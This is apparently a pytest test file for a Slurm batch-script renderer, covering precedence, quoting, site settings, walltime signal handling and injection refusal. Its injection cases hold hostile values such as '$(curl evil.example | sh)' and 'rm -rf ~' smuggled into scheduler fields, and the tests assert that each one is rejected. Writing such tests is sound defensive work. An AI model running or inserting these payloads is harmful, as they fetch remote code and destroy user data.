"""render_sbatch: the reference script, quoting, precedence, refusal of injected lines, and (marked
slurm) what the rendered script does on the real cluster when Slurm sends the walltime warning."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from torc_slurm.errors import SlurmError
from torc_slurm.slurm.cli_backend import CliBackend
from torc_slurm.slurm.render import render_sbatch
from torc_slurm.slurm.sites import SiteConfig, load_site
from torc_slurm.spec.models import SlurmScheduler

REFERENCE = Path(__file__).parent / "data" / "sbatch_reference.sh"
BASH = shutil.which("bash")


def site(**changes: object) -> SiteConfig:
    fields: dict[str, object] = {
        "name": "testsite",
        "setup_lines": ["module load python/3.11", 'export OMP_PROC_BIND="spread"'],
        "partitions": [{"name": "cpu", "cpus_per_node": 8, "memory": "8000M", "max_walltime": "1-00:00:00"}],
    }
    fields.update(changes)
    return SiteConfig.model_validate(fields)


def render(scheduler: SlurmScheduler | None = None, **overrides: object) -> str:
    arguments: dict[str, object] = {
        "scheduler": scheduler or SlurmScheduler(name="cpu", partition="cpu"),
        "site": site(),
        "slurm_defaults": {},
        "job_name": "torc_wf1_cpu",
        "output_dir": Path("/scratch/me/torc output"),
        "runner_argv": ["torc-slurm-job-runner", "--db", "/scratch/me/torc.db", "1"],
        "signal_buffer_seconds": 60,
    }
    arguments.update(overrides)
    return render_sbatch(**arguments)  # type: ignore[arg-type]


def directives(script: str) -> list[str]:
    return [line.removeprefix("#SBATCH ") for line in script.splitlines() if line.startswith("#SBATCH ")]


def reference_script() -> str:
    scheduler = SlurmScheduler(
        name="gpu_runs",
        account="myproject",
        partition="gpu",
        nodes=2,
        walltime="1-02:00:00",
        mem="64G",
        gres="gpu:4",
        qos="normal",
        ntasks_per_node=1,
        tmp="100G",
        extra=["--constraint=h100&nvme", "--exclusive"],
    )
    return render(
        scheduler,
        slurm_defaults={"qos": "low", "mail_type": "FAIL"},
        job_name="torc wf 7 gpu_runs",
        signal_buffer_seconds=300,
    )


def test_matches_the_reference_script() -> None:
    # To accept a deliberate change: TORC_UPDATE_REFERENCE=1 pytest tests/slurm/test_render.py
    if os.environ.get("TORC_UPDATE_REFERENCE") == "1":
        REFERENCE.write_text(reference_script())
    assert reference_script() == REFERENCE.read_text()


def test_directives_are_sorted_and_rendering_is_deterministic() -> None:
    script = reference_script()
    names = [d.split("=", 1)[0] for d in directives(script)]
    assert names == sorted(names)
    assert script == reference_script()


@pytest.mark.skipif(BASH is None, reason="bash is not installed")
def test_rendered_scripts_pass_bash_syntax_check(tmp_path: Path) -> None:
    for nodes in (1, 3):
        path = tmp_path / f"job{nodes}.sh"
        path.write_text(render(SlurmScheduler(name="s", nodes=nodes, extra=["--comment=a;b $(c) `d`"])))
        subprocess.run([BASH, "-n", str(path)], check=True)


def test_one_node_execs_the_runner() -> None:
    script = render(SlurmScheduler(name="one", nodes=1))
    assert "exec torc-slurm-job-runner --db /scratch/me/torc.db 1\n" in script
    assert "srun" not in script


def test_several_nodes_start_one_runner_per_node_and_forward_sigterm() -> None:
    script = render(SlurmScheduler(name="many", nodes=4, ntasks_per_node=8))
    assert "#SBATCH --nodes=4" in script
    assert (
        'srun --nodes="$SLURM_JOB_NUM_NODES" --ntasks="$SLURM_JOB_NUM_NODES" --ntasks-per-node=1 '
        "torc-slurm-job-runner --db /scratch/me/torc.db 1 &" in script
    )
    assert "trap 'scancel --signal=TERM \"$SLURM_JOB_ID\"' TERM" in script
    assert "exec torc" not in script


def test_fixed_directives() -> None:
    found = directives(render(job_name="wf 1", signal_buffer_seconds=90))
    assert "--job-name='wf 1'" in found
    assert "--output='/scratch/me/torc output/slurm-%j.out'" in found
    assert "--error='/scratch/me/torc output/slurm-%j.err'" in found
    assert "--signal=B:TERM@90" in found
    assert "--time=01:00:00" in found


def test_site_settings_reach_the_script() -> None:
    script = render(site=site(gpu_visibility_variable="ROCR_VISIBLE_DEVICES", lock_kind="soft"))
    assert "export TORC_GPU_VISIBILITY_VARIABLE=ROCR_VISIBLE_DEVICES\n" in script
    assert "export TORC_LOCK_KIND=soft\n" in script
    assert "export TORC_SITE=testsite\n" in script
    assert "set -e\nmodule load python/3.11\nexport OMP_PROC_BIND=\"spread\"\nset +e\n" in script


# --- precedence -------------------------------------------------------------------------------


def test_slurm_defaults_do_not_override_scheduler_fields() -> None:
    scheduler = SlurmScheduler(name="s", partition="cpu", account="mine", walltime="02:00:00")
    defaults = {"partition": "debug", "account": "theirs", "walltime": "00:10:00", "qos": "high"}
    found = directives(render(scheduler, slurm_defaults=defaults))
    assert "--partition=cpu" in found and "--partition=debug" not in found
    assert "--account=mine" in found
    assert "--time=02:00:00" in found
    assert "--qos=high" in found


def test_slurm_default_keys_are_normalised() -> None:
    found = directives(render(slurm_defaults={"mail_type": "END", "cpus-per-task": 4}))
    assert "--mail-type=END" in found and "--cpus-per-task=4" in found


def test_extra_overrides_defaults_but_not_fields() -> None:
    found = directives(render(SlurmScheduler(name="s", extra=["--qos=urgent"]), slurm_defaults={"qos": "low"}))
    assert "--qos=urgent" in found and "--qos=low" not in found
    with pytest.raises(SlurmError, match="scheduler's own field"):
        render(SlurmScheduler(name="s", partition="cpu", extra=["--partition=gpu"]))
    with pytest.raises(SlurmError, match="scheduler's own field"):
        render(SlurmScheduler(name="s", extra=["-N=3"]))


@pytest.mark.parametrize("option", ["--signal=B:USR1@10", "--output=/tmp/x", "--job-name=x", "--wrap=true"])
def test_options_set_by_torc_cannot_be_overridden(option: str) -> None:
    with pytest.raises(SlurmError, match="torc_slurm sets"):
        render(SlurmScheduler(name="s", extra=[option]))
    key = option[2:].split("=", 1)[0]
    with pytest.raises(SlurmError, match="torc_slurm sets"):
        render(slurm_defaults={key: "x"})


def test_site_default_partition_and_account_fallback_come_last() -> None:
    with_default = site(default_partition="cpu")
    assert "--partition=cpu" in directives(render(SlurmScheduler(name="s"), site=with_default))
    assert "--partition=gpu" in directives(
        render(SlurmScheduler(name="s"), site=with_default, slurm_defaults={"partition": "gpu"})
    )
    assert "--account=fallback" in directives(render(account_fallback="fallback"))
    own = SlurmScheduler(name="s", account="own")
    assert "--account=fallback" not in directives(render(own, account_fallback="fallback"))



# --- site entries that select nodes by QOS/constraint ------------------------------------------

ENTRY = {"cpus_per_node": 64, "memory": "256G", "max_walltime": "2-00:00:00"}
QOS_SITE = {
    "partitions": [
        {"name": "cpu", **ENTRY},
        {"name": "gpu", **ENTRY, "gpus_per_node": 4, "qos": "regular", "constraint": "gpu", "is_partition": False},
        {"name": "debug", **ENTRY, "qos": "debug", "is_partition": False},
        {"name": "big", **ENTRY, "qos": "large"},
    ]
}


def test_an_entry_that_is_no_partition_renders_its_qos_and_constraint_instead() -> None:
    found = directives(render(SlurmScheduler(name="s", partition="gpu"), site=site(**QOS_SITE)))
    assert "--constraint=gpu" in found and "--qos=regular" in found
    assert not [d for d in found if d.startswith("--partition")]


def test_a_real_partition_keeps_its_name_and_adds_its_qos() -> None:
    found = directives(render(SlurmScheduler(name="s", partition="big"), site=site(**QOS_SITE)))
    assert "--partition=big" in found and "--qos=large" in found
    assert not [d for d in found if d.startswith("--constraint")]


def test_entries_without_qos_or_constraint_change_nothing() -> None:
    plain = render(SlurmScheduler(name="s", partition="cpu"), site=site(**QOS_SITE))
    assert plain == render(SlurmScheduler(name="s", partition="cpu"))


def test_the_scheduler_defaults_and_extra_win_over_the_entry() -> None:
    with_site = site(**QOS_SITE)
    own_qos = directives(render(SlurmScheduler(name="s", partition="gpu", qos="premium"), site=with_site))
    assert "--qos=premium" in own_qos and "--qos=regular" not in own_qos and "--constraint=gpu" in own_qos
    defaults = directives(render(SlurmScheduler(name="s", partition="gpu"), site=with_site, slurm_defaults={"qos": "low"}))
    assert "--qos=low" in defaults and "--qos=regular" not in defaults
    extra = directives(render(SlurmScheduler(name="s", partition="gpu", extra=["--constraint=gpu&hbm80g"]), site=with_site))
    assert "--constraint='gpu&hbm80g'" in extra and "--constraint=gpu" not in extra
    with pytest.raises(SlurmError, match="scheduler's own field"):
        render(SlurmScheduler(name="s", partition="gpu", extra=["--partition=x"]), site=with_site)


def test_a_qos_entry_as_the_default_partition() -> None:
    found = directives(render(SlurmScheduler(name="s"), site=site(**QOS_SITE, default_partition="debug")))
    assert "--qos=debug" in found and not [d for d in found if d.startswith("--partition")]
    # slurm_defaults naming the entry work like the scheduler's field.
    found = directives(render(SlurmScheduler(name="s"), site=site(**QOS_SITE), slurm_defaults={"partition": "gpu"}))
    assert "--constraint=gpu" in found and not [d for d in found if d.startswith("--partition")]


def test_shipped_hpc_sites_render_their_selections(tmp_path: Path) -> None:
    perlmutter = directives(render(SlurmScheduler(name="s", partition="gpu"), site=load_site("perlmutter")))
    assert {"--constraint=gpu", "--qos=regular"} <= set(perlmutter)
    assert not [d for d in perlmutter if d.startswith("--partition")]
    frontier = load_site("frontier")
    debug = directives(render(SlurmScheduler(name="s", partition="debug", account="abc123"), site=frontier))
    assert "--qos=debug" in debug and not [d for d in debug if d.startswith("--partition")]
    batch = directives(render(SlurmScheduler(name="s", account="abc123"), site=frontier))
    assert "--partition=batch" in batch and not [d for d in batch if d.startswith("--qos")]
    assert frontier.missing_options([d[2:].split("=", 1)[0] for d in batch], environ={}) == []
    kestrel = directives(render(SlurmScheduler(name="s", partition="short"), site=load_site("kestrel")))
    assert load_site("kestrel").missing_options([d[2:].split("=", 1)[0] for d in kestrel], environ={}) == ["account"]

# --- injection --------------------------------------------------------------------------------

INJECTIONS = [
    {"partition": "debug\n#SBATCH --wrap=rm -rf ~"},
    {"account": "$(curl evil.example | sh)"},
    {"extra": ["--comment=x\n#SBATCH --wrap=rm -rf ~"]},
    {"gres": "gpu:1;rm -rf ~"},
    {"qos": "normal\x00--wrap=x"},
    {"mem": "4G\nrm -rf ~"},
]


@pytest.mark.parametrize("fields", INJECTIONS)
def test_injection_is_refused_by_the_model(fields: dict[str, object]) -> None:
    with pytest.raises(ValidationError):
        SlurmScheduler(name="s", **fields)  # type: ignore[arg-type]


@pytest.mark.parametrize("fields", INJECTIONS)
def test_injection_is_refused_by_render_even_without_model_validation(fields: dict[str, object]) -> None:
    unvalidated = SlurmScheduler(name="s").model_copy(update=fields)  # model_copy does not validate
    with pytest.raises(SlurmError):
        render(unvalidated)


@pytest.mark.parametrize(
    "overrides",
    [
        {"job_name": "x\n#SBATCH --wrap=id"},
        {"runner_argv": ["runner", "ok\nrm -rf ~"]},
        {"runner_argv": ["runner\x00"]},
        {"slurm_defaults": {"comment": "a\nb"}},
        {"output_dir": Path("/tmp/a\nb")},
        {"site": site().model_copy(update={"setup_lines": ["a\nb"]})},
    ],
)
def test_newlines_anywhere_are_refused(overrides: dict[str, object]) -> None:
    with pytest.raises(SlurmError):
        render(**overrides)


def test_site_config_injection_is_refused_at_validation() -> None:
    with pytest.raises(ValidationError):
        site(setup_lines=["module load x\n#SBATCH --wrap=y"])


def test_bad_arguments() -> None:
    with pytest.raises(SlurmError, match="absolute"):
        render(output_dir=Path("relative/dir"))
    with pytest.raises(SlurmError, match="'%'"):
        render(output_dir=Path("/scratch/%u"))
    with pytest.raises(SlurmError, match="shorter than the walltime"):
        render(SlurmScheduler(name="s", walltime="00:01:00"), signal_buffer_seconds=60)
    with pytest.raises(SlurmError, match="runner"):
        render(runner_argv=[])
    with pytest.raises(SlurmError, match="long-name"):
        render(SlurmScheduler(name="s", extra=["-Z"]))


# --- quoting: run the rendered script with bash (the #SBATCH lines are comments there) ----------

ODD_ARGS = ["it's", "$HOME", "a b", "`id`", "semi;colon", "back\\slash", "*", "ünïcödé", "--x=\"q\""]


def run_script(script: str, tmp_path: Path) -> list[str]:
    path = tmp_path / "job.sh"
    path.write_text(script)
    env = {k: v for k, v in os.environ.items() if not k.startswith("SLURM_")}
    result = subprocess.run([BASH or "bash", str(path)], capture_output=True, text=True, env=env, check=True)
    return result.stdout.splitlines()


@pytest.mark.skipif(BASH is None, reason="bash is not installed")
def test_odd_but_valid_values_are_quoted(tmp_path: Path) -> None:
    printer = [sys.executable, "-c", "import sys; print(*sys.argv[1:], sep='\\n')"]
    scheduler = SlurmScheduler(name="odd", partition="cpu[1-2]", account="proj@site", extra=["--comment=a b;c"])
    script = render(scheduler, runner_argv=printer + ODD_ARGS, job_name="job 'one'", site=site(setup_lines=[]))
    assert "--comment='a b;c'" in directives(script)
    assert "--job-name='job '\"'\"'one'\"'\"''" in directives(script)
    assert run_script(script, tmp_path) == ODD_ARGS


@pytest.mark.skipif(BASH is None, reason="bash is not installed")
@settings(max_examples=25, deadline=None)
@given(st.lists(st.text(st.characters(blacklist_categories=("Cc", "Cs")), min_size=1, max_size=12), max_size=4))
def test_any_printable_argument_reaches_the_runner_unchanged(
    tmp_path_factory: pytest.TempPathFactory, args: list[str]
) -> None:
    printer = [sys.executable, "-c", "import sys, json; print(json.dumps(sys.argv[1:]))"]
    script = render(runner_argv=printer + args, site=site(setup_lines=[]))
    assert json.loads(run_script(script, tmp_path_factory.mktemp("run"))[0]) == args


# --- the real cluster -------------------------------------------------------------------------

RUNNER = """
import os, signal, sys, time
log = sys.argv[1]
node = os.environ.get("SLURMD_NODENAME", "?")
def note(text):
    with open(log, "a") as f:
        f.write(f"{node} {text}\\n")
def on_term(signum, frame):
    note("SIGTERM")
    sys.exit(0)
signal.signal(signal.SIGTERM, on_term)
note("ready")
while True:
    time.sleep(0.2)
"""


def wait_until_finished(backend: CliBackend, job_ids: list[str], limit: float) -> dict[str, str]:
    """Final state of each job ('GONE' if Slurm forgot it), polling with growing intervals."""
    deadline, delay, final = time.monotonic() + limit, 0.5, {}
    while time.monotonic() < deadline and len(final) < len(job_ids):
        infos = backend.status([j for j in job_ids if j not in final])
        for job_id in job_ids:
            info = infos.get(job_id)
            if job_id not in final and (info is None or info.state.is_finished):
                final[job_id] = info.state.value if info else "GONE"
        time.sleep(delay)
        delay = min(delay * 1.5, 5.0)
    return final


@pytest.mark.slurm
def test_walltime_warning_reaches_every_runner_and_the_job_completes(tmp_path: Path) -> None:
    """--signal=B:TERM@N reaches the runner: directly with exec (one node), through the trap and
    scancel with srun (two nodes). Each runner exits 0 and Slurm records COMPLETED."""
    runner = tmp_path / "runner.py"
    runner.write_text(RUNNER)
    backend = CliBackend()
    localhost = load_site("localhost")
    jobs: dict[str, Path] = {}
    for nodes in (1, 2):
        log = tmp_path / f"runner-{nodes}.log"
        # The warning is due 80 s after the start; Slurm may send it up to 60 s early.
        scheduler = SlurmScheduler(name=f"n{nodes}", partition="cpu", nodes=nodes, walltime="00:03:00")
        script = tmp_path / f"job{nodes}.sh"
        script.write_text(
            render_sbatch(
                scheduler=scheduler,
                site=localhost,
                slurm_defaults={},
                job_name=f"torc_test_signal_{nodes}",
                output_dir=tmp_path,
                runner_argv=[sys.executable, str(runner), str(log)],
                signal_buffer_seconds=100,
            )
        )
        jobs[backend.submit(script)] = log
    try:
        final = wait_until_finished(backend, list(jobs), limit=170)
    finally:
        backend.cancel(list(jobs))
    for job_id, log in jobs.items():
        lines = log.read_text().splitlines() if log.exists() else []
        nodes = 1 if log.name == "runner-1.log" else 2
        assert final.get(job_id) == "COMPLETED", (final, lines, sorted(p.name for p in tmp_path.iterdir()))
        assert sum(line.endswith(" SIGTERM") for line in lines) == nodes, lines
        assert len({line.split()[0] for line in lines}) == nodes, lines


@pytest.mark.parametrize(
    ("fields", "exclusive"),
    [
        ({}, True),  # no CPU layout asked for: whole nodes, since the runner packs the node itself
        ({"ntasks_per_node": 4}, False),
        ({"extra": ["--cpus-per-task=8"]}, False),
        ({"extra": ["--exclusive"]}, True),
    ],
)
def test_allocations_take_whole_nodes_unless_a_cpu_layout_is_given(fields: dict[str, object], exclusive: bool) -> None:
    script = render(SlurmScheduler(name="s", partition="cpu", **fields))
    assert directives(script).count("--exclusive") == (1 if exclusive else 0)


def test_the_sites_container_runtime_reaches_the_runners() -> None:
    assert "export TORC_CONTAINER_RUNTIME=apptainer\n" in render(site=site(container_runtime="apptainer"))
    assert "export TORC_CONTAINER_RUNTIME=''\n" in render()
